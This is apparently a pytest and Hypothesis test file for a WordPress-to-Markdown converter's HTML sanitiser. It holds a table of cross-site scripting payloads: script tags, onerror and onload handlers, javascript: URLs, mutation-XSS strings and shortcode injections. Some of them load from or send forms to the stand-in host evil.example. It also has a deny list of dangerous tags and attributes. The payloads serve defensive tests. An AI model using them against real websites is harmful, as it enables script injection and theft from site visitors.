"""Bodies that were made to harm, or that are merely broken: nothing dangerous is left, and none of the text is lost."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.markup import Context, Markup
from generator.markup.tags import names
from generator.wordpress.bodies import Converted, convert

from .shown import shown

DANGEROUS = names("script style form input textarea select button object embed svg math link meta base iframe")
ADDRESSES = names("href src poster action data srcset xlink:href")


class _Dangers(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag] * (tag in DANGEROUS)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "ping"):
                self.found.append(name)
            if name in ADDRESSES and re.match(r"(?:java|vb)script:|data:(?!image/png)", re.sub(r"\s", "", value or "")):
                self.found.append(f"{name}={value}")


def dangers(html: str) -> list[str]:
    """What could run, or be loaded, as a parser that is not the project's reads it."""
    parser = _Dangers()
    parser.feed(html)
    parser.close()
    return parser.found


def converted(html: str) -> Converted:
    return convert(html, lambda address: address, {}, post=1)


def rendered(html: str) -> str:
    return Markup().html(converted(html).markdown, Context())


# --- What runs or loads ----------------------------------------------------------------------------------------------

HARMFUL = {
    "<script>alert(1)</script>": ("script",),
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>": ("script",),
    "<scr<script>ipt>alert(1)</script>": ("script",),
    "<script>alert(1)": ("script",),
    "<script>/*</script><script>*/alert(1)</script>": ("script",),
    "<style>body{background:url(//evil.example)}</style>": ("style",),
    '<p style="background:url(javascript:alert(1))">x</p>': (),
    "<img src=x onerror=alert(1)>": ("onerror",),
    "<img src=x\nonerror\n=\nalert(1)>": ("onerror",),
    '<img src="x" ONERROR="alert(1)">': ("onerror",),
    '<img/src="x"/onerror=alert(1)>': ("onerror",),
    '<a href="javascript:alert(1)">x</a>': ("javascript:",),
    '<a href=" JaVaScRiPt:alert(1)">x</a>': ("javascript:",),
    '<a href="java\tscript:alert(1)">x</a>': (),
    '<a href="&#106;avascript:alert(1)">x</a>': ("javascript:",),
    '<a href="java&#x0A;script:alert(1)">x</a>': (),
    '<a href="vbscript:x">x</a>': ("vbscript:",),
    '<a href="data:text/html,<script>alert(1)</script>">x</a>': (),
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">': (),
    '<iframe src="javascript:alert(1)"></iframe>': ("javascript:",),
    '<iframe src="data:text/html,x"></iframe>': ("data:",),
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>': (),
    '<form action="//evil.example"><input name="a"><button>x</button></form>': ("form", "input", "button"),
    "<textarea></textarea><script>alert(1)</script>": ("textarea", "script"),
    "<svg onload=alert(1)><script>alert(1)</script></svg>": ("svg", "onload", "script"),
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>': ("svg",),
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>": ("math", "style", "onerror"),
    '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x.swf">': ("object", "embed"),
    '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">': ("meta", "base"),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">': (),
    "<b><script><i>alert(1)</i></script></b>": ("script",),
    "<table><script>alert(1)</script><tr><td onclick=x>a</td></tr></table>": ("script", "onclick"),
    "<pre><code onmouseover=alert(1)>x</code></pre>": ("onmouseover",),
    "[caption]<img src=x onerror=alert(1)>x<script>y</script>[/caption]": ("onerror", "script"),
    '[caption caption="<img src=x onerror=alert(1)>"]<img src="a.jpg">[/caption]': ("onerror",),
    '[audio src="javascript:alert(1)"]': ("javascript:",),
    "[video src='x\" onerror=\"alert(1)']": (),
    "[embed]javascript:alert(1)[/embed]": (),
    '[googlemaps https://x.example/"onload="alert(1)]': (),
    "[ref]<script>alert(1)</script>x[/ref]": ("script",),
    "<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->": ("script",),
    "<scr<!-- x -->ipt>alert(1)</scr<!-- x -->ipt>": (),
    "<scr<!--more-->ipt>alert(1)</script>": (),
    "&lt;script&gt;alert(1)&lt;/script&gt;": (),
    "![x](javascript:alert(1)) [x](javascript:alert(1)) <javascript:alert(1)>": (),
    "[x]: javascript:alert(1)\n\n[x]": (),
    "`<script>alert(1)</script>`": ("script",),
    "{: onclick=alert(1)} *x*{: onclick=alert(1)}": (),
}


@pytest.mark.parametrize(("html", "removed"), HARMFUL.items(), ids=range(len(HARMFUL)))
def test_nothing_that_runs_or_loads_is_left_and_what_went_is_told(html: str, removed: tuple[str, ...]) -> None:
    for around in ("{}", "Vorher\n\n{}\n\nnachher", "<blockquote><ul><li>{}", "<table><tr><td>{}</td></tr></table>"):
        source = around.format(html)
        body = converted(source)
        assert dangers(Markup().html(body.markdown, Context())) == [], body.markdown
        assert not [problem for problem in Markup().survey(body.markdown).problems if not problem[3]]
        assert set(removed) <= set(body.removed)


def test_harmless_bodies_tell_of_nothing_removed() -> None:
    assert converted('Eins <b>zwei</b> <a href="/">drei</a> Bildschirm: script, style="x"').removed == ()


def test_footnotes_of_the_block_editor_are_cleaned_as_well() -> None:
    texts = {"x": 'Note <img src=x onerror=alert(1)><script>y</script><a href="javascript:z">a</a>'}
    body = convert('A<sup data-fn="x">1</sup>', lambda address: address, {}, footnotes=texts)
    assert dangers(Markup().html(body.markdown, Context())) == []


def test_elements_that_nobody_knows_are_listed_and_their_text_stays() -> None:
    body = converted("<acme-map zoom=3>Karte</acme-map> <blink>x</blink>")
    assert body.unknown == ("<acme-map>",)
    assert body.markdown == "Karte x"


def test_control_characters_go() -> None:
    assert converted("a\x00b\x1bc\x1fd\x7fe\ufffff\ud800g").markdown == "abcdefg"


# --- Broken HTML -----------------------------------------------------------------------------------------------------

_TAGS = sorted(
    names(
        "b i em strong a p div ul ol li blockquote table thead tbody tr td th span sup h1 h2 h4 pre code figure "
        "figcaption details summary font center dl dt dd section cite del hr br img audio video u"
    )
)
_PIECES = (
    *('<a href="x">', '<a href="javascript:alert(1)">', '<img src="a.jpg" alt="q">', "<img src=x onerror=alert(1)>"),
    *('<li id="f1"><a href="#r1">b</a>', '<sup id="r1"><a href="#f1">1</a></sup>', "<a id=q>", "<td colspan=2>"),
    *("<ol start=3>", '<p onclick="x()" style="color:red">', "<iframe src=https://x.example/></iframe>"),
    *("\n", "\n\n", " ", "*", "_", "#", "`", "- ", "1. ", "> ", "| ", "[", "]", "&", "<", "&lt;", "\t", "```", "[^1]"),
    *("[ref]", "[/ref]", "[gallery]", "<!--more-->", "<!-- x -->", "-->", "17. Mai", ":   ", "    "),
    *("<!-- wp:paragraph -->", "<!-- /wp:paragraph -->", "<!-- wp:group -->", "<!-- /wp:group -->"),
    *("<!-- wp:freeform -->", "<!-- /wp:freeform -->"),
)
_SIGNS = ("[^", "```", "**", "more-mark", "\x1b", "\x1f")  # of Markdown and of the conversion, which must not show
soup = st.lists(
    st.one_of(
        st.just(" {} "),
        st.sampled_from(_TAGS).map(lambda tag: f"<{tag}>"),
        st.sampled_from(_TAGS).map(lambda tag: f"</{tag}>"),
        st.sampled_from(_PIECES),
    ),
    min_size=2,
    max_size=30,
)


@settings(max_examples=200)
@given(soup)
def test_broken_html_keeps_its_text_and_becomes_well_formed(pieces: list[str]) -> None:
    source = "".join(piece.replace("{}", f"w{index}x") for index, piece in enumerate(pieces))
    body = converted(source)
    for line_breaks in (False, True):
        html = Markup(line_breaks=line_breaks).html(body.markdown, Context())
        shown(html)  # fails where elements overlap
        assert dangers(html) == []
        assert [word for word in re.findall(r"w\d+x", source) if word not in html] == []
        assert [sign for sign in _SIGNS if sign in unescape(html) and sign not in source] == []


@settings(max_examples=200)
@given(st.text(max_size=60))
def test_any_text_can_be_converted_and_rendered(text: str) -> None:
    rendered(text)


# --- Size ------------------------------------------------------------------------------------------------------------

_NESTED = names(
    "b em a p div ul li blockquote table td span sup h2 pre code figure font details object script form svg"
)
_REPEATED = (
    *(
        "<!--",
        "<!-- wp:group -->",
        "<!--more-->",
        "[caption]",
        "[caption]x",
        "[[",
        "[a ",
        "[code]",
        "[ref]x[/ref]",
        "<br>",
    ),
    *("\n\n", "\n \n", "<p>\n", "http://a ", "https://youtu.be/aaaaaaa\n", "&amp;#", "<img src=x>", "<hr>", "<b><p>"),
    *(
        "<a href='x'><img src=x></a>",
        "<ul><li>x",
        "<table><tr><td>",
        '<a b="',
        "<a ",
        "</p>",
        "</div>",
        "- ",
        "> ",
        "1. ",
    ),
    *(
        '<sup><a href="#a">1</a></sup>',
        '<li id="a"><a href="#b">x</a></li>',
        "<object>",
        "<embed ",
        "<3",
        "<a@",
        "![",
        "](",
    ),
    *("[", "]", "*", "_", "`", "<", ">", "&", "\\", " ", "\n", "\xa0", "1", "(", ":", "|", "#", "~", "="),
)


@pytest.mark.parametrize("tag", sorted(_NESTED))
def test_elements_in_one_another_without_end(tag: str) -> None:
    for count, use in ((3000, converted), (200, rendered)):
        for source in (f"<{tag}>" * count, f"<{tag}>x" * count, f"<{tag}>" * count + "x" + f"</{tag}>" * count):
            use(source)


@pytest.mark.parametrize("piece", _REPEATED)
def test_one_thing_thousands_of_times(piece: str) -> None:
    converted(piece * 2000)
    rendered(piece * 200)


def test_megabytes_of_one_paragraph() -> None:
    assert len(converted("Wort " * 400_000).markdown) == 5 * 400_000 - 1
